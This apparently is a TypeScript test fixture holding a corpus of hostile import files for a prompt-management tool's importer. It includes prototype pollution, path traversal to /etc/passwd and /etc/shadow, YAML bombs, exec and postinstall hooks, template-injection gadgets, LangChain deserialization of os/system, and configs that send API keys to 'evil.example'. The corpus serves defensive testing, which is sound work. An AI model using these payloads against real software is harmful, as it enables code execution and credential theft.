import type { ImportFile } from "#shared/model/exchange.ts";

/** Files that somebody sends to do harm, by the number of the attack. */
export interface Attack {
  number: string;
  what: string;
  files: ImportFile[];
}

/** What must be nowhere after an import: keys, addresses, headers. */
export const stolen = "sk-live-0123456789abcdefSTOLEN";
export const address = "evil.example";
/** The file that code in the corpus would write. */
export const trace = "/tmp/lathe-import-corpus-was-run";

const json = (path: string, value: unknown): ImportFile => ({ path, text: JSON.stringify(value) });
const text = (path: string, said: string): ImportFile => ({ path, text: said });
const lc = (id: string, kwargs: object): object => ({
  lc: 1,
  type: "constructor",
  id: id.split("/"),
  kwargs,
});
const template = (said: string, format = "f-string") =>
  lc("langchain/prompts/prompt/PromptTemplate", {
    template: said,
    template_format: format,
    input_variables: [],
  });
const chat = (said: string, format?: string) =>
  lc("langchain/prompts/chat/ChatPromptTemplate", {
    messages: [lc("langchain/prompts/chat/HumanMessagePromptTemplate", { prompt: template(said, format) })],
    input_variables: [],
  });
const secret = { lc: 1, type: "secret", id: ["OPENAI_API_KEY"] };

/** A sound file of each format, into which something is put. */
const sound: Record<string, [ending: string, text: string]> = {
  lathe: ["json", JSON.stringify({ lathe: 1, prompts: [{ name: "P", content: { messages: [] } }] })],
  langchain: ["json", JSON.stringify(chat("Hi {x}"))],
  langfuse: ["json", JSON.stringify({ name: "P", type: "text", prompt: "Hi {{x}}", config: {} })],
  openai: ["json", JSON.stringify({ model: "m", messages: [{ role: "user", content: "Hi" }] })],
  anthropic: ["json", JSON.stringify({ system: "S", messages: [{ role: "user", content: "Hi" }] })],
  mlflow: ["json", JSON.stringify({ name: "P", template: "Hi {{x}}", version: 1 })],
  dataset: ["jsonl", JSON.stringify({ inputs: { x: 1 }, outputs: { y: 2 } })],
  results: [
    "json",
    JSON.stringify({ results: { results: [] }, config: { prompts: ["Hi {{x}}"], tests: [] } }),
  ],
};
const promptfoo = "prompts:\n  - Hi {{x}}\nproviders: [openai:gpt-4o-mini]\ntests:\n  - vars: {x: 1}\n";
const prompty = (front: string, body = "system:\nHi {{x}}") => `---\n${front}\n---\n${body}\n`;
/** Front matter of one, configuration of the other: YAML is read for both. */
const inYaml = (what: string, yaml: string): ImportFile[] => [
  text(`${what}.prompty`, prompty(`name: P\n${yaml}`)),
  text(`${what}.prompt`, prompty(`model: a/b\n${yaml}`)),
  text("promptfooconfig.yaml", `${promptfoo}${yaml}`),
];

/** One attack with a sound file of each format that was changed. */
const everyFormat = (number: string, what: string, change: (sound: string) => string): Attack => ({
  number,
  what: `${what} in every format`,
  files: Object.entries(sound).map(([format, [ending, said]]) => text(`${format}.${ending}`, change(said))),
});

const nested = (depth: number): string => `${"[".repeat(depth)}1${"]".repeat(depth)}`;
const nestedObjects = (depth: number): string => `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
const into = (member: string) => (said: string) => said.replace(/^\{/, `{${member},`);

export const attacks: Attack[] = [
  everyFormat("A-24", "__proto__ as a key", into('"__proto__":{"polluted":true}')),
  everyFormat("A-24", "constructor.prototype", into('"constructor":{"prototype":{"polluted":true}}')),
  everyFormat(
    "A-24",
    "toString and valueOf",
    into('"toString":"x","valueOf":{"polluted":1},"hasOwnProperty":1'),
  ),
  {
    number: "A-24",
    what: "keys of prototypes as names of variables",
    files: [
      json("a.json", {
        name: "P",
        type: "text",
        prompt: "{{__proto__}} {{constructor}} {{toString}} {{a.__proto__.b}}",
      }),
      text("b.csv", "__proto__,constructor,prototype\npolluted,polluted,polluted\n"),
      text(
        "c.jsonl",
        '{"inputs":{"__proto__":{"polluted":1}}}\n{"inputs":{"constructor":{"prototype":{"polluted":1}}}}\n',
      ),
    ],
  },
  {
    number: "A-24",
    what: "__proto__ in YAML",
    files: inYaml("proto", "__proto__: {polluted: true}\nconstructor: {prototype: {polluted: true}}\n"),
  },
  everyFormat("A-25", "a key that is there twice", into('"x":1,"x":2')),
  {
    number: "A-25",
    what: "a key that is there twice in YAML",
    files: inYaml("twice", "description: one\ndescription: two\n"),
  },
  {
    number: "A-31",
    what: "paths that lead out of the folder",
    files: [
      text("../../etc/x.txt", "up"),
      text("/etc/x.txt", "absolute"),
      text("C:\\Windows\\x.txt", "drive"),
      text("\\\\server\\share\\x.txt", "share"),
      text("a/../../b.txt", "up again"),
      text("nul\u0000.txt", "NUL"),
      text("~/x.txt", "home"),
      text("good/./../good/x.txt", "stays inside"),
      text("good/x.txt", "the same place"),
    ],
  },
  {
    number: "A-31",
    what: "references that lead out of the folder",
    files: [
      text(
        "promptfooconfig.yaml",
        "prompts: [file:///etc/passwd, file://../../../etc/passwd, 'file://C:\\Windows\\win.ini', 'file://\\\\server\\share\\x', file://../**/*.txt]\ntests: file:///etc/passwd\nproviders: [openai:x]\n",
      ),
      // biome-ignore lint/suspicious/noTemplateCurlyInString: the syntax of Prompty
      text("a.prompty", prompty("name: P\nsample: ${file:/etc/passwd}\ninputs: ${file:../../../etc/shadow}")),
    ],
  },
  {
    number: "A-32",
    what: "YAML bombs",
    files: inYaml(
      "bomb",
      `a: &a [x,x,x,x,x,x,x,x,x]\n${"bcdefghij"
        .split("")
        .map((name, at) => `${name}: &${name} [${`*${"abcdefghij"[at]},`.repeat(9)}1]`)
        .join("\n")}\n`,
    ),
  },
  {
    number: "A-32",
    what: "merge keys that multiply",
    files: inYaml(
      "merge",
      `a0: &a0 {k: v}\n${Array.from({ length: 40 }, (_, at) => `a${at + 1}: &a${at + 1} {<<: [*a${at}, *a${at}], k${at}: v}`).join("\n")}\n`,
    ),
  },
  {
    number: "A-32",
    what: "a value that contains itself",
    files: inYaml("self", "a: &a [*a]\nb: &b {<<: *b}\n"),
  },
  everyFormat("A-32", "10,000 levels of lists", into(`"deep":${nested(10_000)}`)),
  everyFormat("A-32", "10,000 levels of objects", into(`"deep":${nestedObjects(10_000)}`)),
  {
    number: "A-32",
    what: "10,000 levels in YAML and templates",
    files: [
      ...inYaml("deep", `deep: ${nested(10_000)}\n`),
      text("t.prompt", "{{#a}}".repeat(10_000)),
      text("t.prompty", prompty("name: P", `system:\n${"{% if a %}".repeat(10_000)}`)),
      json("t.json", { name: "P", type: "text", prompt: "{{#a}}".repeat(10_000) }),
    ],
  },
  {
    number: "A-32",
    what: "a line of ten megabytes",
    files: [
      text("long.txt", "x{".repeat(190_000)),
      json("long.json", { name: "P", type: "text", prompt: "{{x}} ".repeat(1_000_000) }),
      text("long.csv", `x\n"${"y".repeat(5_000_001)}"\n`),
      text("open.json", `{"messages": "${"\\n".repeat(2_000_000)}`),
    ],
  },
  {
    number: "A-33",
    what: "code in every place that others run",
    files: [
      text(
        "promptfooconfig.yaml",
        `description: code\nprompts: [file://p.js, file://p.py, 'exec:touch ${trace}', 'Hi {{x}}']\nproviders: ['exec:touch ${trace}', 'file://provider.js', {id: 'python:p.py'}]\nextensions: ['file://hook.js:before']\nnunjucksFilters: {f: file://f.js}\ndefaultTest: {options: {transform: "require('child_process').execSync('touch ${trace}')"}}\ntests:\n  - vars: {x: 'file://v.js'}\n    assert:\n      - {type: javascript, value: "require('fs').writeFileSync('${trace}', '')"}\n      - {type: python, value: "import os; os.system('touch ${trace}')"}\n`,
      ),
      text("p.js", `require('fs').writeFileSync('${trace}','')`),
      text("p.py", `import os; os.system('touch ${trace}')`),
      text("package.json", JSON.stringify({ scripts: { postinstall: `touch ${trace}` } })),
      text(
        "a.prompty",
        prompty(
          "name: !!js/function 'function(){return 1}'\ndescription: !!python/object/apply:os.system ['touch x']",
        ),
      ),
      text(
        "b.prompty",
        prompty(
          "name: P\ntools: [{kind: mcp, serverName: x, command: touch}, {kind: openapi, specification: x}]",
          "system:\n{{ self.__init__.__globals__.os.popen('id') }}",
        ),
      ),
    ],
  },
  {
    number: "A-34",
    what: "keys, addresses and headers",
    files: [
      json("a.json", {
        model: "gpt-4o",
        api_key: stolen,
        base_url: `https://${address}/v1`,
        extra_headers: { Authorization: `Bearer ${stolen}` },
        messages: [{ role: "user", content: "Hi" }],
      }),
      json("b.json", {
        name: "P",
        type: "text",
        prompt: "Hi",
        config: {
          apiKey: stolen,
          baseURL: `https://${address}`,
          headers: { "x-api-key": stolen },
          model: "m",
        },
      }),
      json("c.json", {
        system: "S",
        "x-api-key": stolen,
        messages: [{ role: "user", content: "Hi" }],
        model: "claude-x",
        endpoint: `https://${address}`,
      }),
      text(
        "promptfooconfig.yaml",
        `prompts: [Hi]\nenv: {OPENAI_API_KEY: ${stolen}}\nproviders:\n  - id: https://${address}/v1\n    config: {apiKey: ${stolen}, apiBaseUrl: 'https://${address}', headers: {a: ${stolen}}}\n  - id: openai:gpt-4o\n    config: {apiHost: ${address}, apiKey: ${stolen}, organization: x, temperature: 0}\n`,
      ),
      text(
        "a.prompty",
        prompty(
          `name: P\nmodel:\n  id: gpt-4o\n  provider: openai\n  connection: {kind: key, endpoint: 'https://${address}', apiKey: ${stolen}}\n  options: {temperature: 0}`,
        ),
      ),
      text(
        "b.prompty",
        prompty(
          `name: P\nmodel:\n  api: chat\n  configuration: {type: azure_openai, azure_endpoint: 'https://${address}', api_key: ${stolen}}\n  parameters: {max_tokens: 5}`,
        ),
      ),
    ],
  },
  {
    number: "A-35",
    what: "addresses that a preview might look up",
    files: [
      json("a.json", {
        model: "m",
        messages: [
          {
            role: "user",
            content: [
              { type: "text", text: "Hi" },
              { type: "image_url", image_url: { url: "http://127.0.0.1:9/track.png" } },
            ],
          },
        ],
        tools: [{ type: "mcp", server_url: "http://127.0.0.1:9" }],
      }),
      text(
        "promptfooconfig.yaml",
        "prompts: ['https://127.0.0.1:9/p.txt', Hi]\ntests: 'https://docs.google.com/spreadsheets/d/x'\nproviders: [webhook:http://127.0.0.1:9]\n$schema: http://127.0.0.1:9/schema.json\n",
      ),
      json("schema.json", {
        name: "P",
        type: "text",
        prompt: "x",
        config: {
          response_format: {
            type: "json_schema",
            json_schema: { name: "r", schema: { $ref: "http://127.0.0.1:9/s" } },
          },
        },
      }),
      text("m.prompt", "{{media url=http://127.0.0.1:9/x.png}} Hi"),
    ],
  },
  {
    number: "A-46",
    what: "manifests that load more than text",
    files: [
      json(
        "a.json",
        lc("langchain_core/runnables/RunnableSequence", {
          first: chat("Hi {x}"),
          last: lc("langchain/chat_models/openai/ChatOpenAI", {
            model: "m",
            openai_api_key: secret,
            openai_api_base: `http://${address}`,
            default_headers: { k: stolen },
          }),
        }),
      ),
      json("b.json", lc("os/system", { command: `touch ${trace}` })),
      json(
        "c.json",
        lc("langchain/prompts/chat/ChatPromptTemplate", {
          messages: [
            secret,
            lc("langchain_community/tools/ShellTool", {}),
            lc("langchain/prompts/chat/HumanMessagePromptTemplate", { prompt: template("Hi") }),
          ],
        }),
      ),
      json("d.json", {
        manifest: chat("{{ ''.__class__.__mro__[1].__subclasses__() }}", "jinja2"),
        owner: "x",
      }),
      json(
        "e.json",
        lc("langchain/prompts/loading/load_prompt", {
          path: "/etc/passwd",
          template_path: "../../etc/passwd",
        }),
      ),
      json("f.json", {
        _type: "prompt",
        template: "Hi {x}",
        template_path: "/etc/passwd",
        input_variables: ["x"],
      }),
      json("g.json", { lc: 1, type: "not_implemented", id: ["a"], repr: "x" }),
      json("h.json", secret),
    ],
  },
  {
    number: "A-46",
    what: "a manifest of 5,000 levels",
    files: [
      text(
        "a.json",
        `${'{"lc":1,"type":"constructor","id":["langchain","schema","runnable","RunnableBinding"],"kwargs":{"bound":'.repeat(5_000)}1${"}}".repeat(5_000)}`,
      ),
    ],
  },
  {
    number: "A-48",
    what: "expressions in templates",
    files: [
      json("a.json", chat("{x.__class__} {y[0]} {constructor} {__proto__}")),
      json("b.json", {
        name: "P",
        type: "text",
        prompt:
          "{{constructor.constructor('return process')()}} {{range.constructor}} {{#with this}}{{/with}}",
      }),
      text("c.txt", "{{#each (lookup this 'constructor')}}{{/each}} {% include '/etc/passwd' %}"),
      text("d.prompt", "{{#with (lookup . 'constructor')}}{{/with}} {{>/etc/passwd}} {{>../../x}}"),
      text(
        "promptfooconfig.yaml",
        "prompts: ['{% include \"/etc/passwd\" %}', '{{ range.constructor(\"return 1\")() }}']\nproviders: [openai:x]\n",
      ),
    ],
  },
  everyFormat("R-32", "a NUL", into('"description":"a\\u0000b"')),
  everyFormat("R-32", "half a character", into('"description":"a\\ud800b"')),
  everyFormat("R-32", "a byte order mark and CRLF", (said) => `\uFEFF${said.replace(/,/g, ",\r\n")}`),
  {
    number: "R-32",
    what: "NUL, half characters, marks of order in text",
    files: [
      text("a.txt", "a\u0000b"),
      text("b.md", "a\ud800b {x}"),
      text("c.txt", "\uFEFFsystem:\r\nHi {x}\r\n---\r\n"),
      text("d.csv", "\uFEFFx,y\r\n\u0000,\ud800\r\nok,ok\r\n"),
      text("e.prompty", `\uFEFF${prompty("name: a\u0000b").replaceAll("\n", "\r\n")}`),
    ],
  },
];
